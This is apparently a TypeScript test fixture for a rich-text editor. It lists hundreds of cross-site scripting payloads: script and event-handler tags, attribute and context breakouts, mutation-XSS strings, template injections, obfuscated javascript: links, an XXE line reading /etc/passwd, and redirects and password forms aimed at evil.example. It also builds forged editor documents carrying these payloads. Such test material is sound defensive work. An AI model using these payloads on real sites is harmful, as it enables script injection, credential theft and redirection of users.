// Words that would run, load or lead away wherever a page took them for markup. Each calls `ran`, which no page has:
// the browser that reads them counts its calls.
const TICK = '`'
const hole = (inside: string) => `$${`{${inside}}`}`

const ELEMENTS = [
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<svg/onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text y="20">x</text></a></svg>',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<a href="javascript:ran()">x</a>',
  '<form action="javascript:ran()"><button autofocus>x</button></form>',
  '<button formaction="javascript:ran()">x</button>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<video><source onerror=ran()></video>',
  '<audio src onerror=ran()>',
  '<body onload=ran()>',
  '<marquee onstart=ran()>x</marquee>',
  '<p tabindex=0 onfocus=ran() autofocus>x',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="ran()">x</b>',
  '<x contenteditable onblur=ran()>x</x>',
  '<template shadowrootmode=open><script>ran()</script></template>',
]

const LEADING_AWAY = [
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/x">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<img srcset="https://evil.example/x 1x" src="https://evil.example/y">',
  '<picture><source srcset="https://evil.example/x"><img></picture>',
  '<svg><use href="https://evil.example/x#y"/></svg>',
  '<form action="https://evil.example/"><input name=password>',
  '<a href="//evil.example" ping="https://evil.example/">x</a>',
  '<meta property="og:image" content="https://evil.example/x">',
]

const BROKEN_OUT = [
  '"><script>ran()</script>',
  "'><img src=x onerror=ran()>",
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</style><script>ran()</script>',
  '</script><script>ran()</script>',
  '</SCRIPT ><svg onload=ran()>',
  '--><script>ran()</script>',
  '--!><img src=x onerror=ran()>',
  '<!--><script>ran()</script>-->',
  ']]><script>ran()</script>',
  ']]>]]><script xmlns="http://www.w3.org/1999/xhtml">ran()</script>',
  ']]>]]></title><entry><title>x</title></entry><title>',
  '</loc></url><url><loc>https://evil.example/</loc></url>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '" onmouseover="ran()" autofocus onfocus="ran()" x="',
  "' onfocus='ran()' autofocus tabindex=0 x='",
  `${TICK} onerror=ran() ${TICK}`,
  'x" style="animation-name:x" onanimationstart="ran()',
  '" http-equiv="refresh" content="0;url=https://evil.example/',
  'ar" onload="ran()',
  'rtl" onclick="ran()" lang="ar',
  '<meta name="page-status" content="410"/>',
  '<!--$--><script>ran()</script><!--/$-->',
]

// Harmless to one parser, and not to the next one that reads what the first wrote.
const MUTATING = [
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<listing>&lt;img src=x onerror=ran()&gt;</listing>',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&amp;lt;img src=x onerror=ran()&amp;gt;',
  '<img src="x` `<script>ran()</script>"` `>',
  '<a title="<!--" href="x">--><img src=x onerror=ran()>',
  '<table><td background="javascript:ran()">x',
  '\uff1cscript\uff1eran()\uff1c/script\uff1e',
  '<\u017fcript>ran()</\u017fcript>',
  '<scr\0ipt>ran()</scr\0ipt>',
  '<scr\u200bipt>ran()</scr\u202eipt>',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '%3Cscript%3Eran()%3C/script%3E',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
]

const TEMPLATES = [
  hole('ran()'),
  `${TICK}${hole('ran()')}${TICK}`,
  `{{constructor.constructor('ran()')()}}`,
  '<%= ran() %>',
  '#{ran()}',
  '";ran();//',
  "';ran();//",
  '\\";ran();//',
  '*/ran()/*',
  '\u2028ran()\u2029',
  '$RC("B:0","S:0")',
  'self.__next_f.push([1,"x"])</script>',
  '{"@type":"x"}</script><script>ran()</script>',
]

// Addresses that a browser would run, however they are written.
const RUNNING_LINKS: readonly string[] = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  '\u0001javascript:ran()',
  'java\tscript:ran()',
  'java\nscript:ran()',
  'java\0script:ran()',
  'javascript\n:ran()',
  '&#106;avascript:ran()',
  'java&#9;script:ran()',
  'java&Tab;script:ran()',
  'javascript&colon;ran()',
  'javascript://example.org/%0Aran()',
  'data:text/html,<script>parent.ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'vbscript:ran()',
  'view-source:javascript:ran()',
  'blob:null/x',
  'filesystem:javascript:ran()',
  '/\\evil.example',
  '//evil.example/%2f..',
  '\\\\evil.example',
]

const BASE = [...ELEMENTS, ...BROKEN_OUT, ...MUTATING, ...TEMPLATES, ...LEADING_AWAY, ...RUNNING_LINKS]

// Every way out of where the words stand, before everything that runs.
const CONTEXTS = ['">', "'>", '-->', '</title>', '</textarea>', '</script>', '</noscript>', ']]>', '\\">']
const COMBINED = CONTEXTS.flatMap((way) => ELEMENTS.slice(0, 14).map((element) => way + element))

const SHORT = 110

/** All of them, a few beside each other as long as they fit into any field. */
const bundles = (): string[] => {
  const lines = ['']
  for (const words of new Set([...BASE, ...COMBINED])) {
    const together = `${lines.at(-1)} ${words}`.trimStart()
    if (together.length <= SHORT) lines.splice(-1, 1, together)
    else lines.push(words)
  }
  return lines
}

/** So many lines of them, from every kind; the whole corpus when there are no more. */
export const hostileMarkup = (most: number): string[] => {
  const all = bundles()
  const step = Math.max(1, all.length / most)
  return Array.from({ length: Math.min(most, all.length) }, (_, i) => all[Math.floor(i * step)] ?? '')
}

type Node = Record<string, unknown>
const paragraph = (text: string, marks?: Node[]): Node => ({
  type: 'paragraph',
  content: [{ type: 'text', text, ...(marks && { marks }) }],
})
const linked = (href: string) => paragraph('رابط', [{ type: 'link', attrs: { href } }])

/** A text as the editor would send it, with these words and every running link in it. */
export const docWith = (words: string, pictureId: string) => ({
  type: 'doc',
  content: [
    paragraph(words),
    {
      type: 'heading',
      attrs: { level: 2, id: words, class: words },
      content: [{ type: 'text', text: words }],
    },
    { type: 'blockquote', content: [paragraph(words, [{ type: 'bold' }])] },
    { type: 'bulletList', content: [{ type: 'listItem', content: [paragraph(words)] }] },
    { type: 'picture', attrs: { pictureId, caption: words, src: 'javascript:ran()', onerror: 'ran()' } },
    linked(words),
    ...RUNNING_LINKS.map(linked),
  ],
})

/** Texts that no editor writes, as they would stand in the database had someone got past every check at writing. */
export const FORGED_DOCS: readonly Node[] = [
  ...RUNNING_LINKS.map((href) => linked(href)),
  paragraph('x', [
    { type: 'link', attrs: { href: 'https://example.org', target: '"><script>ran()</script>' } },
  ]),
  paragraph('x', [
    { type: 'link', attrs: { href: '/', onclick: 'ran()', style: 'x', class: '"><img onerror=ran()>' } },
  ]),
  {
    ...paragraph('x'),
    attrs: { onclick: 'ran()', style: 'background:url(https://evil.example)', dir: 'x" onclick="ran()' },
  },
  { type: 'heading', attrs: { level: 'script' }, content: [{ type: 'text', text: 'ran()' }] },
  { type: 'heading', attrs: { level: '2 onclick=ran()' }, content: [{ type: 'text', text: 'x' }] },
  {
    type: 'orderedList',
    attrs: { start: '1" onclick="ran()', type: 'ran' },
    content: [{ type: 'listItem', content: [paragraph('x')] }],
  },
  { type: 'script', content: [{ type: 'text', text: 'ran()' }] },
  { type: 'html', attrs: { html: '<script>ran()</script>' } },
  { type: 'iframe', attrs: { src: 'javascript:parent.ran()' } },
  {
    type: 'codeBlock',
    attrs: { language: '"><script>ran()</script>' },
    content: [{ type: 'text', text: 'x' }],
  },
  paragraph('x', [{ type: 'style', attrs: { css: '}</style><script>ran()</script>' } }]),
  { type: 'picture', attrs: { pictureId: '"><script>ran()</script>', caption: '<script>ran()</script>' } },
  { type: 'paper', attrs: { documentId: 'javascript:ran()' } },
  { type: '__proto__', attrs: { dangerouslySetInnerHTML: { __html: '<script>ran()</script>' } } },
  {
    type: 'paragraph',
    attrs: { dangerouslySetInnerHTML: { __html: '<img src=x onerror=ran()>' }, key: 'x', ref: 'x' },
  },
]
